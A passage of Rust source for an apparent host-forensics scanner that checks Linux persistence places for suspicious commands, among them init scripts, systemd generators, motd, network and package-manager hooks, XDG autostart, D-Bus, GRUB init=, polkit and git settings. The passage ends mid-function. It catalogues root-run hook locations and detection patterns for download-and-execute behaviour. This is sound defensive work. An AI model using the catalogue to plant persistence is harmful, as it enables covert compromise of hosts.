//! Boot, login, network, package-manager and kernel-module hooks: every place a distribution
//! runs a script or loads code from without a crontab or a unit (SysV init scripts and their
//! `rc*.d` links, systemd generators, `update-motd.d`, NetworkManager and ifupdown hooks, XDG
//! autostart entries, `~/.ssh/rc`, logrotate scripts, apt `Invoke` hooks, dnf/yum plugins,
//! `modules-load.d`, `modprobe.d` `install` hooks, `ld.so.conf.d`, shell aliases that shadow
//! `sudo`). The survey behind the list is `docs/persistence-coverage.md`.
//!
//! Every script line goes through the shared classifier ([`ferret_core::command::classify`],
//! through [`super::suspicions`]); on top of it a program started from a home directory or a
//! hidden (dot-named) directory is suspicious in these root-run places. Each directory is listed
//! once (no recursion beyond the documented sub-directories), each file read with the sound,
//! capped open of [`crate::util::read_config`].

use super::{suspicions, Suspicion};
use crate::accounts::Accounts;
use crate::util::{pb, read_config, skipped};
use ferret_core::{Control, Evidence, FileKind, Finding, HostRoot, Outcome, Severity};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

/// Evidence lines kept per finding at most.
pub(super) const MAX_EVIDENCE: usize = 20;

/// One kind of hook place: the finding it produces.
pub(super) struct Site {
    pub(super) id: &'static str,
    pub(super) title: &'static str,
    pub(super) why: &'static str,
    pub(super) attack: &'static [&'static str],
}

const INIT: Site = Site {
    id: "persistence.init-script",
    title: "SysV init script runs a downloaded, decoded, temporary or hidden program",
    why: "init scripts (and the rc*.d links that start them) run as root at every boot, also on systemd hosts through systemd-sysv-generator",
    attack: &["T1037.004"],
};
const GENERATOR: Site = Site {
    id: "persistence.systemd-generator",
    title: "systemd generator script runs a downloaded, decoded, temporary or hidden program",
    why: "systemd runs every generator as root very early at each boot and at every daemon-reload, before any unit",
    attack: &["T1543.002"],
};
const MOTD: Site = Site {
    id: "persistence.motd-script",
    title: "update-motd.d script runs a downloaded, decoded, temporary or hidden program",
    why: "pam_motd runs every /etc/update-motd.d script as root at each SSH or console login",
    attack: &["T1037"],
};
const NETWORK: Site = Site {
    id: "persistence.network-hook",
    title: "network hook script runs a downloaded, decoded, temporary or hidden program",
    why: "NetworkManager's dispatcher and ifupdown run these scripts as root whenever an interface goes up or down (at every boot)",
    attack: &["T1546"],
};
const XDG: Site = Site {
    id: "persistence.xdg-autostart",
    title: "XDG autostart entry runs a downloaded, decoded, temporary or hidden program",
    why: "desktop sessions start every autostart entry's Exec= at each graphical login",
    attack: &["T1547.013"],
};
const SSH_RC: Site = Site {
    id: "persistence.ssh-rc",
    title: "SSH login script runs a downloaded, decoded, temporary or hidden program",
    why: "sshd runs ~/.ssh/rc (or /etc/ssh/sshrc) at every SSH login of the account, before its shell",
    attack: &["T1037", "T1546.004"],
};
const LOGROTATE: Site = Site {
    id: "persistence.logrotate-script",
    title: "logrotate script runs a downloaded, decoded, temporary or hidden program",
    why: "logrotate runs prerotate/postrotate/firstaction/lastaction scripts as root every day",
    attack: &["T1053"],
};
const APT: Site = Site {
    id: "persistence.package-manager-hook",
    title: "package manager hook runs a downloaded, decoded, temporary or hidden program",
    why: "apt runs *::Pre-Invoke / Post-Invoke / Pre-Install-Pkgs commands as root at every update or install, unattended upgrades included",
    attack: &["T1546.016"],
};

const DBUS: Site = Site {
    id: "persistence.dbus-service",
    title: "D-Bus service runs a downloaded, decoded, temporary or hidden program",
    why: "dbus-daemon starts a service's Exec= (as its User=, often root) whenever any program asks for its bus name",
    attack: &["T1543", "T1559"],
};
const GRUB: Site = Site {
    id: "persistence.grub-init",
    title: "the kernel command line replaces init",
    why: "an init= on the kernel command line makes the kernel run that program as PID 1 at every boot instead of systemd",
    attack: &["T1542", "T1037"],
};
const GIT: Site = Site {
    id: "persistence.git-config",
    title: "git configuration runs a downloaded, decoded, temporary or hidden program",
    why: "git runs core.pager, core.editor, core.fsmonitor, core.sshCommand and core.askPass as commands whenever the account uses git",
    attack: &["T1546"],
};

/// A suspicious line: number, text, reasons.
#[derive(Debug)]
pub(super) struct Hit {
    pub(super) line: u64,
    pub(super) text: Vec<u8>,
    pub(super) reasons: Vec<&'static str>,
}

/// Why one command is suspicious in a root-run hook (empty: it is not).
fn command_reasons(cmd: &[u8]) -> Vec<&'static str> {
    let mut r = Vec::new();
    for s in suspicions(cmd) {
        r.push(match s {
            Suspicion::DownloadExec => "downloads and runs code or opens a shell to the network",
            Suspicion::Base64 => "decodes base64",
            Suspicion::TempPath => "runs a program from a temporary or disguised directory",
        });
    }
    if r.is_empty() && hidden_or_home_program(cmd) {
        r.push("runs a program from a home or a hidden directory");
    }
    r
}

/// The first program of a command line (after `nohup`, `setsid`, `exec`, `(`), when it is an
/// absolute path in a home (`/home/`, `/root/`) or with a dot-named component: nothing a
/// package installs for root-run hooks lives there.
pub(crate) fn hidden_or_home_program(cmd: &[u8]) -> bool {
    let mut words = cmd
        .split(|c| c.is_ascii_whitespace() || matches!(c, b'(' | b')' | b'&' | b';' | b'|'))
        .filter(|w| !w.is_empty());
    let prog = loop {
        match words.next() {
            Some(b"nohup" | b"setsid" | b"exec" | b"/usr/bin/nohup" | b"/usr/bin/setsid") => {}
            Some(w) => break w,
            None => return false,
        }
    };
    let q = |c: &u8| *c == b'"' || *c == b'\'';
    let start = prog.iter().take_while(|c| q(c)).count();
    let end = prog.len() - prog.iter().rev().take_while(|c| q(c)).count();
    let prog = prog.get(start..end.max(start)).unwrap_or_default();
    if prog.first() != Some(&b'/') {
        return false;
    }
    prog.starts_with(b"/home/")
        || prog.starts_with(b"/root/")
        || prog
            .split(|&c| c == b'/')
            .any(|p| p.len() > 1 && p.first() == Some(&b'.') && p != b"..")
}

/// Suspicious lines of a script (comments and blank lines skipped).
fn scan_lines(buf: &[u8]) -> Vec<Hit> {
    buf.split(|&c| c == b'\n')
        .enumerate()
        .filter_map(|(i, l)| {
            let t = l.trim_ascii();
            if t.is_empty() || t.first() == Some(&b'#') {
                return None;
            }
            let reasons = command_reasons(t);
            (!reasons.is_empty()).then(|| Hit {
                line: i as u64 + 1,
                text: t.to_vec(),
                reasons,
            })
        })
        .collect()
}

/// One finding per file and site, every suspicious line as evidence.
pub(super) fn site_finding(site: &Site, file: &Path, hits: &[Hit]) -> Finding {
    let mut reasons: Vec<&str> = hits.iter().flat_map(|h| h.reasons.clone()).collect();
    reasons.sort_unstable();
    reasons.dedup();
    let mut f = Finding::new(site.id, Severity::High, site.title, pb(file))
        .with_detail(format!(
            "{}: {} line(s) that {}.",
            site.why,
            hits.len(),
            reasons.join("; ")
        ))
        .with_remediation(
            "Preserve the file and what it runs, identify the payload, then remove the hook.",
        );
    for a in site.attack {
        f = f.with_attack(*a);
    }
    for h in hits.iter().take(MAX_EVIDENCE) {
        f = f.with_evidence(Evidence::line(pb(file), h.line).with_excerpt(&h.text));
    }
    f
}

/// Reads a hook file as text: `None` (silently) when it is missing or binary (an ELF
/// generator, a compiled helper: only its first 4 KiB are read to tell), errors recorded as
/// [`read_config`] does.
pub(super) fn read_text(root: &HostRoot, p: &Path, out: Option<&mut Outcome>) -> Option<Vec<u8>> {
    use std::io::Read;
    let opts = ferret_core::OpenOptions::new().max_size(crate::util::CONFIG_CAP);
    let mut f = match root.open_file(p, &opts) {
        Ok(f) => f,
        Err(e) if e.is_not_found() => return None,
        Err(e) => {
            if let Some(out) = out {
                out.errors.push(skipped(&e));
            }
            return None;
        }
    };
    let mut head = Vec::with_capacity(4096);
    if let Err(e) = (&mut f).take(4096).read_to_end(&mut head) {
        if let Some(out) = out {
            out.errors.push(skipped(&ferret_core::Error::io(p, e)));
        }
        return None;
    }
    if is_binary(&head) {
        return None;
    }
    match f.read_capped(crate::util::CONFIG_CAP - head.len() as u64) {
        Ok(rest) => {
            head.extend_from_slice(&rest);
            Some(head)
        }
        Err(e) => {
            if let Some(out) = out {
                out.errors.push(skipped(&e));
            }
            None
        }
    }
}

/// True for an ELF file or other binary data (a NUL in the first 4 KiB): compiled generators
/// and hooks are not scanned line by line.
fn is_binary(buf: &[u8]) -> bool {
    buf.starts_with(b"\x7fELF") || buf.iter().take(4096).any(|&c| c == 0)
}

/// The entries of a directory with their kinds. A missing directory, or one that is itself a
/// symlink (`/etc/init.d` -> `rc.d/init.d` on rpm hosts: scanned under its real name), is empty.
pub(super) fn entries(
    root: &HostRoot,
    dir: &Path,
    out: &mut Outcome,
) -> Vec<(PathBuf, Option<FileKind>)> {
    match root.lstat(dir) {
        Ok(st) if st.kind == FileKind::Directory => {}
        Ok(_) => return Vec::new(),
        Err(e) if e.is_not_found() => return Vec::new(),
        Err(e) => {
            out.errors.push(skipped(&e));
            return Vec::new();
        }
    }
    match root.read_dir(dir) {
        Ok(v) => v
            .into_iter()
            .map(|e| {
                let kind = e
                    .kind
                    .or_else(|| root.lstat(dir.join(&e.name)).ok().map(|s| s.kind));
                (dir.join(&e.name), kind)
            })
            .collect(),
        Err(e) if e.is_not_found() => Vec::new(),
        Err(e) => {
            out.errors.push(skipped(&e));
            Vec::new()
        }
    }
}

/// The files of a configuration directory (optionally only those ending in `.ext`), sorted.
/// A symlink (Debian's `/etc/modules-load.d/modules.conf` -> `../modules`) is read at its
/// target, resolved inside the root; one to `/dev/null` (a mask) is skipped. Returns
/// (name in the directory, path to read).
fn files_in(
    root: &HostRoot,
    dir: &Path,
    ext: Option<&str>,
    out: &mut Outcome,
) -> Vec<(PathBuf, PathBuf)> {
    let mut v = Vec::new();
    for (p, kind) in entries(root, dir, out) {
        if kind == Some(FileKind::Directory)
            || ext.is_some_and(|x| p.extension().is_none_or(|e| e != x))
        {
            continue;
        }
        if kind == Some(FileKind::Symlink) {
            let Ok(target) = root.read_link(&p) else {
                continue;
            };
            let abs = link_target(&p, &target);
            if abs == b"/dev/null" {
                continue;
            }
            let read = PathBuf::from(std::ffi::OsStr::from_bytes(&abs));
            v.push((p, read));
        } else {
            v.push((p.clone(), p));
        }
    }
    v
}

/// Resolves a symlink target against the link's directory (lexically).
pub(super) fn link_target(link: &Path, target: &[u8]) -> Vec<u8> {
    if target.first() == Some(&b'/') {
        return target.to_vec();
    }
    let mut parts: Vec<&[u8]> = link
        .parent()
        .map(|p| {
            pb(p)
                .split(|&c| c == b'/')
                .filter(|c| !c.is_empty())
                .collect()
        })
        .unwrap_or_default();
    for c in target.split(|&c| c == b'/') {
        match c {
            b"" | b"." => {}
            b".." => {
                parts.pop();
            }
            c => parts.push(c),
        }
    }
    let mut out = Vec::new();
    for p in parts {
        out.push(b'/');
        out.extend_from_slice(p);
    }
    out
}

/// A symlink in a hook directory whose target is in a temporary, home or hidden place.
fn check_link(root: &HostRoot, site: &Site, link: &Path, out: &mut Outcome) {
    let Ok(target) = root.read_link(link) else {
        return;
    };
    let abs = link_target(link, &target);
    let reasons = command_reasons(&abs);
    if reasons.is_empty() {
        return;
    }
    let hit = Hit {
        line: 0,
        text: target,
        reasons,
    };
    let mut f = site_finding(site, link, std::slice::from_ref(&hit));
    f.evidence.clear();
    out.findings.push(
        f.with_evidence(
            Evidence::file(pb(link))
                .with_excerpt(format!("-> {}", ferret_core::escape::escape(&hit.text))),
        ),
    );
}

/// Scans every script of the directories of one site (symlinks by their targets; files with a
/// name ending in one of `skip_ext` are left alone).
fn scan_dirs(root: &HostRoot, site: &Site, dirs: &[&str], out: &mut Outcome) {
    for d in dirs {
        for (p, kind) in entries(root, Path::new(d), out) {
            match kind {
                Some(FileKind::Directory) => continue,
                Some(FileKind::Symlink) => {
                    check_link(root, site, &p, out);
                    continue;
                }
                _ => {}
            }
            scan_file(root, site, &p, out);
        }
    }
}

fn scan_file(root: &HostRoot, site: &Site, p: &Path, out: &mut Outcome) {
    let Some(buf) = read_text(root, p, Some(out)) else {
        return;
    };
    let hits = scan_lines(&buf);
    if !hits.is_empty() {
        out.findings.push(site_finding(site, p, &hits));
    }
}

// ---------------------------------------------------------------------------------------------
// SysV init scripts and rc*.d links.

const INIT_DIRS: &[&str] = &["/etc/init.d", "/etc/rc.d/init.d"];
const RC_DIRS: &[&str] = &[
    "/etc/rc0.d",
    "/etc/rc1.d",
    "/etc/rc2.d",
    "/etc/rc3.d",
    "/etc/rc4.d",
    "/etc/rc5.d",
    "/etc/rc6.d",
    "/etc/rcS.d",
    "/etc/rc.d/rc0.d",
    "/etc/rc.d/rc1.d",
    "/etc/rc.d/rc2.d",
    "/etc/rc.d/rc3.d",
    "/etc/rc.d/rc4.d",
    "/etc/rc.d/rc5.d",
    "/etc/rc.d/rc6.d",
];

fn audit_init(root: &HostRoot, out: &mut Outcome) {
    scan_dirs(root, &INIT, INIT_DIRS, out);
    for d in RC_DIRS {
        for (p, kind) in entries(root, Path::new(d), out) {
            let name = p.file_name().map(OsStrExt::as_bytes).unwrap_or_default();
            if !(name.starts_with(b"S") || name.starts_with(b"K")) {
                continue; // README and friends
            }
            match kind {
                Some(FileKind::Symlink) => {
                    let Ok(target) = root.read_link(&p) else {
                        continue;
                    };
                    let abs = link_target(&p, &target);
                    let in_init = INIT_DIRS.iter().any(|i| {
                        abs.strip_prefix(i.as_bytes())
                            .is_some_and(|r| r.first() == Some(&b'/'))
                    });
                    if !in_init {
                        out.findings.push(
                            Finding::new(
                                INIT.id,
                                if command_reasons(&abs).is_empty() { Severity::Medium } else { Severity::High },
                                "rc*.d start link points outside the init script directory",
                                pb(&p),
                            )
                            .with_evidence(Evidence::file(pb(&p)).with_excerpt(format!("-> {}", ferret_core::escape::escape(&target))))
                            .with_detail("rc*.d links start init scripts at boot; packaged links all point into /etc/init.d (or /etc/rc.d/init.d); one pointing elsewhere starts a planted program as root.")
                            .with_remediation("Preserve the link and its target, then remove the link.")
                            .with_attack("T1037.004"),
                        );
                    }
                }
                Some(FileKind::Directory) => {}
                _ => scan_file(root, &INIT, &p, out),
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Generators, motd, network hooks, ssh rc.

const GENERATOR_DIRS: &[&str] = &[
    "/etc/systemd/system-generators",
    "/run/systemd/system-generators",
    "/usr/local/lib/systemd/system-generators",
    "/usr/lib/systemd/system-generators",
    "/lib/systemd/system-generators",
    "/etc/systemd/user-generators",
    "/usr/local/lib/systemd/user-generators",
    "/usr/lib/systemd/user-generators",
];

const NETWORK_DIRS: &[&str] = &[
    "/etc/NetworkManager/dispatcher.d",
    "/etc/NetworkManager/dispatcher.d/pre-up.d",
    "/etc/NetworkManager/dispatcher.d/pre-down.d",
    "/etc/NetworkManager/dispatcher.d/no-wait.d",
    "/usr/lib/NetworkManager/dispatcher.d",
    "/etc/network/if-up.d",
    "/etc/network/if-pre-up.d",
    "/etc/network/if-down.d",
    "/etc/network/if-post-down.d",
    "/etc/ppp/ip-up.d",
    "/etc/ppp/ip-down.d",
];

/// Distinct homes of the accounts (absolute, not `/`).
pub(super) fn homes(accounts: &Accounts) -> Vec<&[u8]> {
    let mut v: Vec<&[u8]> = Vec::new();
    for u in &accounts.users {
        if u.home.first() == Some(&b'/') && u.home.len() > 1 && !v.contains(&u.home.as_slice()) {
            v.push(&u.home);
        }
    }
    v
}

pub(super) fn in_home(home: &[u8], rel: &str) -> PathBuf {
    let mut p = home.to_vec();
    p.push(b'/');
    p.extend_from_slice(rel.as_bytes());
    PathBuf::from(std::ffi::OsStr::from_bytes(&p))
}

fn audit_ssh_rc(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
    scan_file(root, &SSH_RC, Path::new("/etc/ssh/sshrc"), out);
    for h in homes(accounts) {
        scan_file(root, &SSH_RC, &in_home(h, ".ssh/rc"), out);
    }
}

// ---------------------------------------------------------------------------------------------
// XDG autostart.

fn audit_xdg(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
    let mut dirs = vec![PathBuf::from("/etc/xdg/autostart")];
    let mut kde: Vec<PathBuf> = Vec::new();
    for h in homes(accounts) {
        dirs.push(in_home(h, ".config/autostart"));
        for d in [
            ".config/autostart-scripts",
            ".config/plasma-workspace/env",
            ".config/plasma-workspace/shutdown",
            ".kde/Autostart",
            ".kde4/Autostart",
        ] {
            kde.push(in_home(h, d));
        }
    }
    exec_entries(root, &XDG, &dirs, "desktop", out);
    for d in kde {
        for (p, kind) in entries(root, &d, out) {
            match kind {
                Some(FileKind::Directory) => {}
                Some(FileKind::Symlink) => check_link(root, &XDG, &p, out),
                _ => scan_file(root, &XDG, &p, out),
            }
        }
    }
}

fn audit_dbus(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
    let mut dirs: Vec<PathBuf> = [
        "/usr/share/dbus-1/system-services",
        "/usr/share/dbus-1/services",
        "/usr/local/share/dbus-1/system-services",
        "/usr/local/share/dbus-1/services",
        "/etc/dbus-1/system-services",
        "/etc/dbus-1/services",
    ]
    .iter()
    .map(PathBuf::from)
    .collect();
    for h in homes(accounts) {
        dirs.push(in_home(h, ".local/share/dbus-1/services"));
    }
    exec_entries(root, &DBUS, &dirs, "service", out);
}

/// Key files (`.desktop` entries, D-Bus `.service` files) of `dirs` whose `Exec=` command is
/// suspicious, or starts a script that is (read one hop deep: PANIX's
/// `Exec=/etc/xdg/pkc12-register`, `Exec=/usr/local/bin/dbus-panix.sh`).
fn exec_entries(root: &HostRoot, site: &Site, dirs: &[PathBuf], ext: &str, out: &mut Outcome) {
    for d in dirs {
        for (p, kind) in entries(root, d, out) {
            if p.extension().is_none_or(|e| e != ext) || kind == Some(FileKind::Directory) {
                continue;
            }
            if kind == Some(FileKind::Symlink) {
                check_link(root, site, &p, out);
                continue;
            }
            let Some(buf) = read_config(root, &p, out) else {
                continue;
            };
            let mut hits = Vec::new();
            for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
                let Some(cmd) = l.trim_ascii().strip_prefix(b"Exec=") else {
                    continue;
                };
                let reasons = exec_reasons(root, cmd);
                if !reasons.is_empty() {
                    hits.push(Hit {
                        line: i as u64 + 1,
                        text: l.trim_ascii().to_vec(),
                        reasons,
                    });
                }
            }
            if !hits.is_empty() {
                out.findings.push(site_finding(site, &p, &hits));
            }
        }
    }
}

/// Why a command that names a program is suspicious: the command itself, or, when it starts
/// an absolute-path script, that script's lines.
fn exec_reasons(root: &HostRoot, cmd: &[u8]) -> Vec<&'static str> {
    let mut reasons = command_reasons(cmd);
    let prog = cmd
        .split(u8::is_ascii_whitespace)
        .next()
        .unwrap_or_default();
    if reasons.is_empty() && prog.first() == Some(&b'/') {
        let pp = Path::new(std::ffi::OsStr::from_bytes(prog));
        if let Some(body) = read_text(root, pp, None) {
            for h in scan_lines(&body) {
                reasons.extend(h.reasons);
            }
            if !reasons.is_empty() {
                reasons.push("(in the script it starts)");
            }
        }
    }
    reasons.sort_unstable();
    reasons.dedup();
    reasons
}

// ---------------------------------------------------------------------------------------------
// GRUB init=, polkit allow-all, git command settings.

/// Programs distributions boot as init.
const INITS: &[&[u8]] = &[
    b"/sbin/init",
    b"/usr/sbin/init",
    b"/lib/systemd/systemd",
    b"/usr/lib/systemd/systemd",
    b"/bin/systemd",
    b"/sbin/openrc-init",
    b"/bin/sh",
    b"/bin/bash",
];

/// The `init=` values of a `GRUB_CMDLINE_LINUX*=` line of `/etc/default/grub` (1-based line,
/// value).
pub fn grub_init_values(data: &[u8]) -> Vec<(u64, &[u8])> {
    let mut out = Vec::new();
    for (i, l) in data.split(|&c| c == b'\n').enumerate() {
        let t = l.trim_ascii();
        let t = t.strip_prefix(b"export ").unwrap_or(t);
        if !t.starts_with(b"GRUB_CMDLINE_LINUX") {
            continue;
        }
        let mut rest = t;
        while let Some(at) = rest.windows(5).position(|w| w == b"init=") {
            let before = at.checked_sub(1).and_then(|b| rest.get(b)).copied();
            let after = rest.get(at + 5..).unwrap_or_default();
            let end = after
                .iter()
                .position(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\''))
                .unwrap_or(after.len());
            if before.is_none_or(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'')) {
                out.push((i as u64 + 1, after.get(..end).unwrap_or_default()));
            }
            rest = after.get(end..).unwrap_or_default();
        }
    }
    out
}

fn audit_grub(root: &HostRoot, out: &mut Outcome) {
    let mut files = vec![PathBuf::from("/etc/default/grub")];
    files.extend(
        files_in(root, Path::new("/etc/default/grub.d"), Some("cfg"), out)
            .into_iter()
            .map(|(_, p)| p),
    );
    for f in files {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        let hits: Vec<Hit> = grub_init_values(&buf)
            .into_iter()
            .filter(|(_, v)| !INITS.contains(v))
            .map(|(line, v)| {
                let mut reasons = exec_reasons(root, v);
                if reasons.is_empty() {
                    reasons.push("names a program that is not a distribution's init");
                }
                let text = buf
                    .split(|&c| c == b'\n')
                    .nth(usize::try_from(line - 1).unwrap_or(usize::MAX))
                    .unwrap_or_default()
                    .trim_ascii()
                    .to_vec();
                Hit {
                    line,
                    text,
                    reasons,
                }
            })
            .collect();
        if !hits.is_empty() {
            out.findings.push(site_finding(&GRUB, &f, &hits));
        }
    }
}

/// polkit: a `.pkla` section granting every action to every user (`Identity=unix-user:*`,
/// `Action=*`, a `Result*=yes`), or a `.rules` file whose `addRule` function returns
/// `polkit.Result.YES` as its first statement (unconditionally). Returns the 1-based lines.
pub fn polkit_allow_all(data: &[u8], rules: bool) -> Vec<u64> {
    let mut out = Vec::new();
    if rules {
        let mut from = 0;
        while let Some(at) = data
            .get(from..)
            .and_then(|d| d.windows(8).position(|w| w == b"addRule("))
        {
            let start = from + at;
            let Some(brace) = data
                .get(start..)
                .and_then(|d| d.iter().position(|&c| c == b'{'))
            else {
                break;
            };
            let body = data.get(start + brace + 1..).unwrap_or_default();
            let body = body.trim_ascii_start();
            if body.starts_with(b"return polkit.Result.YES") {
                // Lines before the match, plus its own.
                let line = data
                    .get(..start)
                    .unwrap_or_default()
                    .split(|&c| c == b'\n')
                    .count() as u64;
                out.push(line);
            }
            from = start + 8;
        }
        return out;
    }
    let mut section: Option<u64> = None;
    let (mut any_user, mut any_action, mut yes) = (false, false, false);
    let mut flush = |section: Option<u64>, any_user: bool, any_action: bool, yes: bool| {
        if let Some(l) = section {
            if any_user && any_action && yes {
                out.push(l);
            }
        }
    };
    for (i, l) in data.split(|&c| c == b'\n').enumerate() {
        let t = l.trim_ascii();
        if t.first() == Some(&b'[') {
            flush(section, any_user, any_action, yes);
            section = Some(i as u64 + 1);
            (any_user, any_action, yes) = (false, false, false);
            continue;
        }
        let Some(eq) = t.iter().position(|&c| c == b'=') else {
            continue;
        };
        let (k, v) = (
            t.get(..eq).unwrap_or_default().trim_ascii(),
            t.get(eq + 1..).unwrap_or_default().trim_ascii(),
        );
        match k {
            b"Identity" => {
                any_user = v
                    .split(|&c| c == b';')
                    .any(|x| x == b"unix-user:*" || x == b"unix-group:*");
            }
            b"Action" => any_action = v.split(|&c| c == b';').any(|x| x == b"*"),
            b"ResultAny" | b"ResultInactive" | b"ResultActive" => yes |= v == b"yes",
            _ => {}
        }
    }
    flush(section, any_user, any_action, yes);
    out
}

fn audit_polkit(root: &HostRoot, out: &mut Outcome) {
    let mut files: Vec<(PathBuf, bool)> = Vec::new();
    for d in ["/etc/polkit-1/rules.d", "/usr/share/polkit-1/rules.d"] {
        for (_, p) in files_in(root, Path::new(d), Some("rules"), out) {
            files.push((p, true));
        }
    }
    for base in [
        "/etc/polkit-1/localauthority",
        "/var/lib/polkit-1/localauthority",
    ] {
        for (sub, k) in entries(root, Path::new(base), out) {
            if k != Some(FileKind::Directory) {
                continue;
            }
            for (_, p) in files_in(root, &sub, Some("pkla"), out) {
                files.push((p, false));
            }
        }
    }
    for (f, rules) in files {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        let lines = polkit_allow_all(&buf, rules);
        if lines.is_empty() {
            continue;
        }
        let mut fi = Finding::new("persistence.polkit-allow-all", Severity::Critical, "polkit lets every user do every privileged action", pb(&f))
            .with_detail("A polkit rule that answers yes to any action for any subject: every local user (and every service account an intruder reaches) can run pkexec as root, manage units, mount, change accounts, without a password.")
            .with_remediation("Preserve the file, remove it and restart polkit; look for what was done with pkexec since it appeared.")
            .with_attack("T1548")
            .with_attack("T1556");
        for l in lines.into_iter().take(MAX_EVIDENCE) {
            let text = buf
                .split(|&c| c == b'\n')
                .nth(usize::try_from(l - 1).unwrap_or(usize::MAX))
                .unwrap_or_default()
                .trim_ascii();
            fi = fi.with_evidence(Evidence::line(pb(&f), l).with_excerpt(text));
        }
        out.findings.push(fi);
    }
}

/// git settings whose value is a command.
const GIT_COMMANDS: &[&[u8]] = &[b"pager", b"editor", b"fsmonitor", b"sshcommand", b"askpass"];

fn audit_git(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
    let mut files = vec![PathBuf::from("/etc/gitconfig")];
    for h in homes(accounts) {
        files.push(in_home(h, ".gitconfig"));
        files.push(in_home(h, ".config/git/config"));
    }
    for f in files {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        let mut hits = Vec::new();
        for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
            let t = l.trim_ascii();
            let Some(eq) = t.iter().position(|&c| c == b'=') else {
                continue;
            };
            let key = t
                .get(..eq)
                .unwrap_or_default()
                .trim_ascii()
                .to_ascii_lowercase();
            if !GIT_COMMANDS.contains(&key.as_slice()) {
                continue;
            }
            let v = t.get(eq + 1..).unwrap_or_default().trim_ascii();
            let v = v
                .strip_prefix(b"\"")
                .and_then(|x| x.strip_suffix(b"\""))
                .unwrap_or(v);
            let reasons = command_reasons(v);
            if !reasons.is_empty() {
                hits.push(Hit {
                    line: i as u64 + 1,
                    text: t.to_vec(),
                    reasons,
                });
            }
        }
        if !hits.is_empty() {
            out.findings.push(site_finding(&GIT, &f, &hits));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// logrotate scripts.

/// The lines inside `prerotate`/`postrotate`/`firstaction`/`lastaction`/`preremove` ...
/// `endscript` blocks of a logrotate configuration: (1-based line, text).
pub fn logrotate_scripts(data: &[u8]) -> Vec<(u64, &[u8])> {
    let mut out = Vec::new();
    let mut inside = false;
    for (i, l) in data.split(|&c| c == b'\n').enumerate() {
        let t = l.trim_ascii();
        if inside {
            if t == b"endscript" {
                inside = false;
            } else if !t.is_empty() && t.first() != Some(&b'#') {
                out.push((i as u64 + 1, t));
            }
        } else if matches!(
            t,
            b"prerotate" | b"postrotate" | b"firstaction" | b"lastaction" | b"preremove"
        ) {
            inside = true;
        }
    }
    out
}

fn audit_logrotate(root: &HostRoot, out: &mut Outcome) {
    let mut files = vec![PathBuf::from("/etc/logrotate.conf")];
    files.extend(
        files_in(root, Path::new("/etc/logrotate.d"), None, out)
            .into_iter()
            .map(|(_, p)| p),
    );
    for f in files {
        let Some(buf) = read_config(root, &f, out) else {
            continue;
        };
        let hits: Vec<Hit> = logrotate_scripts(&buf)
            .into_iter()
            .filter_map(|(line, t)| {
                let reasons = command_reasons(t);
                (!reasons.is_empty()).then(|| Hit {
                    line,
                    text: t.to_vec(),
                    reasons,
                })
            })
            .collect();
        if !hits.is_empty() {
            out.findings.push(site_finding(&LOGROTATE, &f, &hits));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// apt.conf hooks.

/// The values of an apt configuration (`apt.conf` syntax: `A::B "v";`, `A { B { "v"; }; };`,
/// `//` and `/* */` comments, `#` directive lines) whose full key names a hook apt runs: the
/// `Pre-Invoke`, `Post-Invoke`, `Post-Invoke-Success` and `Pre-Install-Pkgs` lists of
/// `APT::Update` and `DPkg`, whatever their case. Returns (1-based line, key, value).
pub fn apt_conf_commands(data: &[u8]) -> Vec<(u64, String, Vec<u8>)> {
    const MAX_DEPTH: usize = 32;
    let mut out = Vec::new();
    let mut scopes: Vec<Vec<u8>> = Vec::new();
    let mut pending: Option<Vec<u8>> = None;
    let mut line = 1u64;
    let mut i = 0;
    let key_of = |scopes: &[Vec<u8>], pending: &Option<Vec<u8>>| {
        let mut k: Vec<u8> = Vec::new();
        for s in scopes.iter().chain(pending.iter()) {
            let s = s.strip_suffix(b"::").unwrap_or(s);
            if s.is_empty() {
                continue;
            }
            if !k.is_empty() {
                k.extend_from_slice(b"::");
            }
            k.extend_from_slice(s);
        }
        k
    };
    let mut at_line_start = true;
    while let Some(&c) = data.get(i) {
        match c {
            b'\n' => {
                line += 1;
                i += 1;
                at_line_start = true;
                continue;
            }
            c if c.is_ascii_whitespace() => {
                i += 1;
                continue;
            }
            b'#' if at_line_start => {
                // #include / #clear directives and comments: to the end of the line.
                while data.get(i).is_some_and(|&c| c != b'\n') {
                    i += 1;
                }
                continue;
            }
            b'/' if data.get(i + 1) == Some(&b'/') => {
                while data.get(i).is_some_and(|&c| c != b'\n') {
                    i += 1;
                }
                continue;
            }
            b'/' if data.get(i + 1) == Some(&b'*') => {
                i += 2;
                while let Some(&c) = data.get(i) {
                    if c == b'*' && data.get(i + 1) == Some(&b'/') {
                        i += 2;
                        break;
                    }
                    if c == b'\n' {
                        line += 1;
                    }
                    i += 1;
                }
                at_line_start = false;
                continue;
            }
            _ => {}
        }
        at_line_start = false;
        match c {
            b'"' => {
                let start = i + 1;
                let start_line = line;
                let mut j = start;
                while let Some(&c) = data.get(j) {
                    if c == b'"' {
                        break;
                    }
                    if c == b'\n' {
                        line += 1;
                    }
                    j += 1;
                }
                let value = data.get(start..j).unwrap_or_default();
                i = j + 1;
                let key = key_of(&scopes, &pending);
                let lower = key.to_ascii_lowercase();
                if pending.is_none() || !lower.is_empty() {
                    let hook = lower.ends_with(b"invoke")
                        || lower.ends_with(b"invoke-success")
                        || lower.ends_with(b"pre-install-pkgs");
                    if hook {
                        out.push((
                            start_line,
                            ferret_core::escape::escape(&key),
                            value.to_vec(),
                        ));
                    }
                }
            }
            b'{' => {
                if scopes.len() < MAX_DEPTH {
                    scopes.push(pending.take().unwrap_or_default());
                } else {
                    pending = None;
                }
                i += 1;
            }
            b'}' => {
                scopes.pop();
                pending = None;
                i += 1;
            }
            b';' => {
                pending = None;
